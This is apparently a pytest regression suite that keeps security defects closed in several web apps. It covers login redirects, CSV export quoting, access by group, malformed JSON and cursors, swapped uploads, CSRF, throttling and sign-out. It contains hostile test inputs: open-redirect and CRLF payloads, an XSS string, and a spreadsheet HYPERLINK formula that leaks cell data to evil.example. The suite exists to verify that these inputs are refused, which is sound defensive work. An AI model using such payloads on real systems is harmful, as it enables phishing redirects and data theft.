"""The defects an attack found (issue 18), one test each, so they stay closed."""

from __future__ import annotations

import ast
import csv
import io

import pytest

from shared.platform.settings import ROOT

# --- 1. sign-in redirects stay on this site ----------------------------------------------------


OFF_SITE = ["/%09/evil.example", "/%0a/evil.example", "/%0d%0a/evil.example", "%09//evil.example",
            "//evil.example", "/\\evil.example", "https://evil.example/", "/%20/evil.example", "%20/evil.example",
            "javascript:alert(1)", "/ok%0d%0aSet-Cookie:%20x=1"]


@pytest.mark.parametrize("app_name", ["reqsys", "taskapp"])
def test_sign_in_never_redirects_off_the_site(app_name, make_app, make_user, submit):
    user = make_user(groups=("parents", "employees"))
    web = make_app(app_name).test_client()
    for target in OFF_SITE:
        response = submit(web, f"/auth/login?next={target}", {"email": user.email, "password": user.password},
                          page="/auth/login")
        assert (response.status_code, response.headers.get("Location")) == (302, "/"), target


def test_sign_in_still_returns_to_a_page_of_this_site(make_app, make_user, submit):
    user = make_user(groups=("parents",))
    web = make_app("reqsys").test_client()
    response = submit(web, "/auth/login?next=/applications%3Fpage%3D2", {"email": user.email,
                      "password": user.password}, page="/auth/login")
    assert response.headers["Location"] == "/applications?page=2"


# --- 3. no CSV cell a spreadsheet would run --------------------------------------------------


def test_report_csv_quotes_formula_cells():
    from taskapp.analytics.engines import QueryResult
    from taskapp.analytics.reports import to_csv

    evil = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    body = to_csv(QueryResult(columns=["title", "count"], rows=[(text, -3) for text in evil]))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in evil]
    assert {row[1] for row in rows[1:]} == {"-3"}, "numbers stay numbers"


def test_every_csv_writer_goes_through_csvsafe():
    """No module but shared/platform/csvsafe.py makes a csv.writer: the one place that quotes formulas."""
    writers = []
    for path in (p for top in ("reqsys", "childsys", "taskapp", "shared") for p in (ROOT / top).rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []


# --- 4. the task manager is for agency employees ------------------------------------------------


def test_taskapp_is_for_agency_employees_only(make_app, make_user, bearer, sign_in, submit):
    web_app = make_app("taskapp")
    parent = make_user(groups=("parents",))
    staff = make_user(groups=("staff",), daycare_id="A00017")
    employee = make_user(groups=("employees",))
    for outsider in (parent, staff):
        api = web_app.test_client()
        refused = api.get("/api/tasks", headers=bearer(outsider.email, app_name="taskapp"))
        assert refused.status_code == 403 and refused.get_json()["error"]["code"] == "not_a_member"
        web = web_app.test_client()
        sign_in(web, outsider.email)
        page = web.get("/tasks")
        assert page.status_code == 403 and "employees" in page.get_data(as_text=True)
    assert web_app.test_client().get("/api/tasks", headers=bearer(employee.email, app_name="taskapp")).status_code \
        == 200


def test_signing_up_on_taskapp_grants_no_access(make_app, cognito, resources, submit):
    from tests.conftest import TEST_PASSWORD, unique_email

    web = make_app("taskapp").test_client()
    email = unique_email("signup")
    done = submit(web, "/auth/signup", {"email": email, "name": "낯선 사람", "password": TEST_PASSWORD,
                                        "password_again": TEST_PASSWORD})
    assert done.status_code == 302
    pool = resources["COGNITO_USERPOOL_ID"]
    try:
        groups = cognito.admin_list_groups_for_user(UserPoolId=pool, Username=email)["Groups"]
        assert groups == []
    finally:
        cognito.admin_delete_user(UserPoolId=pool, Username=email)


def test_the_demo_employees_and_admins_are_in_the_employees_group():
    from shared.tools.demo import DEMO_USERS

    groups = {email: set(groups) for email, _, groups, _ in DEMO_USERS}
    assert {e for e, g in groups.items() if "employees" in g} == {"user@example.com", "user2@example.com",
                                                                  "admin@example.com"}


# --- 7. no 5xx from hostile input ----------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000
DEEP_OBJECT = '{"a":' * 5_000 + "1" + "}" * 5_000


@pytest.mark.parametrize("app_name", ["reqsys", "childsys", "taskapp"])
def test_deeply_nested_json_is_a_400_on_token(app_name, make_app):
    api = make_app(app_name, migrate=False).test_client()
    for body in (DEEP, DEEP_OBJECT, '{"email": "a@b.c", "password": ' + DEEP + "}"):
        response = api.post("/auth/token", data=body, content_type="application/json")
        assert response.status_code == 400, response.get_data(as_text=True)[:200]
        assert response.get_json()["error"]["code"] == "malformed_json"


def test_deeply_nested_json_is_a_400_on_api_routes(api, alice):
    for path in ("/api/tasks", "/api/imports", "/api/exports"):
        response = api.post(path, data=DEEP, content_type="application/json", headers=alice.headers)
        assert response.status_code == 400, path
    fine = api.post("/api/tasks", json={"title": "[{" * 10, "labels": ["x"]}, headers=alice.headers)
    assert fine.status_code == 201, "brackets inside strings do not count"


def test_a_signed_deep_or_odd_sync_call_is_refused_not_a_500(make_app):
    from shared.platform.signing import SIGNATURE_HEADER, TIMESTAMP_HEADER, sign

    app = make_app("childsys")
    web = app.test_client()
    secret = app.config["SETTINGS"].sync_secret
    raw = DEEP.encode()
    deep = web.post("/enterwait/request", data=raw, content_type="application/json", headers=sign(secret, raw))
    assert deep.status_code == 400
    for stamp in ("²", "١٢٣", "9" * 40, "-1"):
        odd = web.post("/enterwait/request", data=b"{}", content_type="application/json",
                       headers={TIMESTAMP_HEADER: stamp, SIGNATURE_HEADER: "sha256=00"})
        assert odd.status_code == 401, stamp


def test_an_unknown_status_on_the_staff_page_is_a_400(make_app, make_user, sign_in):
    web = make_app("childsys").test_client()
    staff = make_user(groups=("staff",), daycare_id="A00017")
    sign_in(web, staff.email)
    assert web.get("/applications?status=FOO").status_code == 400
    assert web.get("/applications?status=ALL").status_code == 200


def test_a_crafted_task_cursor_is_a_400(api, alice):
    import base64
    import json

    from tests.taskapp_helpers import new_task

    for _ in range(3):
        new_task(api, alice)
    first = api.get("/api/tasks?limit=1", headers=alice.headers).get_json()
    state = json.loads(base64.urlsafe_b64decode(first["cursor"] + "=="))
    name, key = next((n, k) for n, k in state.items() if isinstance(k, dict))

    def encode(value) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    crafted = [
        {**state, name: {**key, "extra": {"S": "x"}}},  # a key DynamoDB refuses
        {**state, name: {k: v for k, v in key.items() if k != "sk"}},
        {**state, name: {**key, "sk": {"S": "x" * 5000}}},
        {**state, name: {**key, "sk": {"N": "1"}}},
        {**state, name: {**key, "sk": {"S": ""}}},
    ]
    for value in crafted:
        response = api.get(f"/api/tasks?limit=1&cursor={encode(value)}", headers=alice.headers)
        assert response.status_code == 400, value
        assert "cursor" in response.get_json()["error"]["fields"]
    deep = base64.urlsafe_b64encode(DEEP.encode()).decode()
    assert api.get(f"/api/tasks?cursor={deep[:4000]}", headers=alice.headers).status_code == 400
    notes = api.get(f"/api/notifications?cursor={encode({'pk': {'S': 'x'}, 'sk': {'S': 'y'}, 'z': {'S': 'q'}})}",
                    headers=alice.headers)
    assert notes.status_code == 400


# --- 2. an upload cannot be swapped after the server checked it -------------------------------


def test_an_attachment_posted_again_after_completion_is_not_what_is_served(api, alice):
    import requests

    from tests.taskapp_helpers import PNG, new_task, post_to_s3

    task = new_task(api, alice)
    url = f"/api/tasks/{task['task_id']}/attachments"
    upload = api.post(url, json={"filename": "a.png", "content_type": "image/png"}, headers=alice.headers).get_json()
    assert post_to_s3(upload, PNG, "image/png").status_code in (200, 204)
    done = api.post(f"{url}/complete", json={"key": upload["key"]}, headers=alice.headers)
    assert done.status_code == 201
    # the same presigned form, still valid, used again with a page of HTML
    post_to_s3(upload, b"<html><script>alert(1)</script></html>", "image/png")
    served = requests.get(api.get(done.get_json()["download_url"], headers=alice.headers).headers["Location"],
                          timeout=10)
    assert served.content == PNG and served.headers["Content-Type"] == "image/png"


def test_an_import_reads_the_checked_copy(api, alice, resources):
    from shared.platform.aws import client
    from tests.taskapp_helpers import post_to_s3

    upload = api.post("/api/imports", json={"filename": "t.csv", "content_type": "text/csv"},
                      headers=alice.headers).get_json()
    post_to_s3(upload, "title\n첫 일\n".encode(), "text/csv")
    job = api.post("/api/imports/complete", json={"key": upload["key"]}, headers=alice.headers)
    assert job.status_code in (201, 202), job.get_json()
    post_to_s3(upload, b"title\n=HYPERLINK(1)\n", "text/csv")  # posted again after the check
    body = client("s3").get_object(Bucket=resources["TASK_FILES_BUCKET"], Key=upload["key"] + ".checked")["Body"]
    assert body.read().decode() == "title\n첫 일\n"


# --- 8. a GET changes nothing ------------------------------------------------------------------


def test_gets_after_an_upload_change_nothing_and_the_post_needs_csrf(client_for, api, alice, sign_in):
    from tests.taskapp_helpers import PNG, new_task, post_to_s3

    task = new_task(api, alice)
    url = f"/api/tasks/{task['task_id']}/attachments"
    upload = api.post(url, json={"filename": "a.png", "content_type": "image/png"}, headers=alice.headers).get_json()
    post_to_s3(upload, PNG, "image/png")
    web = client_for("taskapp")
    sign_in(web, alice.email)
    page = web.get(f"/tasks/{task['task_id']}/attachments/uploaded?key={upload['key']}")
    assert page.status_code == 200 and "data-autosubmit" in page.get_data(as_text=True)
    assert api.get(url, headers=alice.headers).get_json()["attachments"] == [], "the GET recorded nothing"
    forged = web.post(f"/tasks/{task['task_id']}/attachments/uploaded", data={"key": upload["key"]})
    assert forged.status_code == 400  # no CSRF token
    assert api.get(url, headers=alice.headers).get_json()["attachments"] == []

    csv_upload = api.post("/api/imports", json={"filename": "t.csv", "content_type": "text/csv"},
                          headers=alice.headers).get_json()
    post_to_s3(csv_upload, b"title\nx\n", "text/csv")
    assert web.get(f"/jobs/import/uploaded?key={csv_upload['key']}").status_code == 200
    assert api.get("/api/jobs", headers=alice.headers).get_json()["jobs"] == []
    assert web.post("/jobs/import/uploaded", data={"key": csv_upload["key"]}).status_code == 400
    assert api.get("/api/jobs", headers=alice.headers).get_json()["jobs"] == []


# --- 5. sign-in is throttled ------------------------------------------------------------------


def test_many_wrong_passwords_lock_the_account_from_that_address(make_app, make_user, submit):
    app = make_app("reqsys", migrate=False)
    user = make_user(groups=("parents",))
    api = app.test_client()
    answers = [api.post("/auth/token", json={"email": user.email, "password": "Wrong-1234!pw"}).status_code
               for _ in range(30)]
    assert answers[0] == 401 and answers[-1] == 429
    right = api.post("/auth/token", json={"email": user.email, "password": user.password})
    assert right.status_code == 429 and right.get_json()["error"]["code"] == "rate_limited"
    page = submit(app.test_client(), "/auth/login", {"email": user.email, "password": user.password})
    assert page.status_code == 429
    # another address is not locked out by these attempts
    other = app.test_client().post("/auth/token", json={"email": user.email, "password": user.password},
                                   environ_base={"REMOTE_ADDR": "10.1.2.3"})
    assert other.status_code == 200


def test_cognito_lockout_is_told_plainly(make_app):
    from botocore.exceptions import ClientError

    from shared.platform.auth import cognito

    app = make_app("reqsys", migrate=False)
    with app.test_request_context():
        for code, message, status in (("NotAuthorizedException", "Password attempts exceeded", 429),
                                      ("PasswordResetRequiredException", "Password reset required", 403),
                                      ("TooManyRequestsException", "Rate exceeded", 429)):
            err = cognito._error(ClientError({"Error": {"Code": code, "Message": message}}, "InitiateAuth"))
            assert err.status == status and "Password attempts" not in str(err.message)


# --- 6. sign-out ends the session ---------------------------------------------------------------


def signed_in_parent(make_app, make_user, sign_in):
    """(reqsys, a browser signed in there as a new parent, its profile page open)."""
    app = make_app("reqsys")
    web = app.test_client()
    sign_in(web, make_user(groups=("parents",)).email)
    assert web.get("/auth/profile").status_code == 200
    return app, web


def test_a_cookie_copied_before_sign_out_opens_nothing_after(make_app, make_user, sign_in, submit):
    import copy

    from shared.platform.aws import client

    app, web = signed_in_parent(make_app, make_user, sign_in)
    stolen = copy.deepcopy(web._cookies)  # the cookie as a thief copied it
    revoked = []
    events = client("cognito-idp").meta.events
    events.register("before-call.cognito-idp.RevokeToken", lambda params, **_: revoked.append(params))
    try:
        submit(web, "/auth/logout", {}, page="/auth/profile")
    finally:
        events.unregister("before-call.cognito-idp.RevokeToken")
    assert web.get("/auth/profile").status_code == 302
    thief = app.test_client()
    thief._cookies = stolen
    assert thief.get("/auth/profile").status_code == 302, "the copied cookie no longer opens the page"
    assert len(revoked) == 1 and "Token" in str(revoked[0]["body"]), "the refresh token was revoked"


def test_a_sign_out_served_elsewhere_stops_the_cookie_within_seconds(make_app, make_user, sign_in, monkeypatch):
    """Another instance deleted the session's record: this one reads it again ALIVE_SECONDS after it last did."""
    import time
    import types

    from shared.platform.auth import sessions
    from shared.platform.aws import client

    app, web = signed_in_parent(make_app, make_user, sign_in)
    cookie = web.get_cookie(app.config["SESSION_COOKIE_NAME"]).value
    session_id = app.session_interface.get_signing_serializer(app).loads(cookie)["sid"]
    with app.app_context():
        client("dynamodb").delete_item(TableName=sessions._table(), Key=sessions._key(session_id))
    assert web.get("/auth/profile").status_code == 200, "read a moment ago: trusted a few seconds more"
    later = types.SimpleNamespace(time=time.time, monotonic=lambda: time.monotonic() + sessions.ALIVE_SECONDS)
    monkeypatch.setattr(sessions, "time", later)
    assert web.get("/auth/profile").status_code == 302, "read again: the cookie no longer opens the page"


def test_provisioning_puts_a_sign_in_rate_limit_in_front_of_each_api_stage(resources):
    from shared.platform.aws import client
    from shared.tools import provision
    from shared.tools.deploy.stages import lambda_name

    waf, apigateway = client("wafv2"), client("apigateway")
    arn = resources["WEB_ACL_ARN"]
    acl = next(a for a in waf.list_web_acls(Scope="REGIONAL")["WebACLs"] if a["ARN"] == arn)
    [rule] = waf.get_web_acl(Name=acl["Name"], Scope="REGIONAL", Id=acl["Id"])["WebACL"]["Rules"]
    rate = rule["Statement"]["RateBasedStatement"]
    assert rule["Action"] == {"Block": {}} and rate["AggregateKeyType"] == "IP" and rate["Limit"] <= 100
    paths = {s["ByteMatchStatement"]["SearchString"] for s in rate["ScopeDownStatement"]["OrStatement"]["Statements"]}
    assert {b"/auth/login", b"/auth/token"} <= {p if isinstance(p, bytes) else p.encode() for p in paths}
    # a stage Zappa made: the web ACL is put in front of it, once
    api = apigateway.create_rest_api(name=lambda_name("taskapp", "test"))["id"]
    root = apigateway.get_resources(restApiId=api)["items"][0]["id"]
    apigateway.put_method(restApiId=api, resourceId=root, httpMethod="GET", authorizationType="NONE")
    apigateway.put_integration(restApiId=api, resourceId=root, httpMethod="GET", type="MOCK")
    apigateway.create_deployment(restApiId=api, stageName="taskapp_test")
    assert provision.protect_apis("test", arn, apps=("taskapp",)) == ["web ACL in front of taskapp_test"]
    stage_arn = f"arn:aws:apigateway:ap-northeast-2::/restapis/{api}/stages/taskapp_test"
    assert waf.get_web_acl_for_resource(ResourceArn=stage_arn)["WebACL"]["ARN"] == arn
    assert provision.protect_apis("test", arn, apps=("taskapp",)) == []
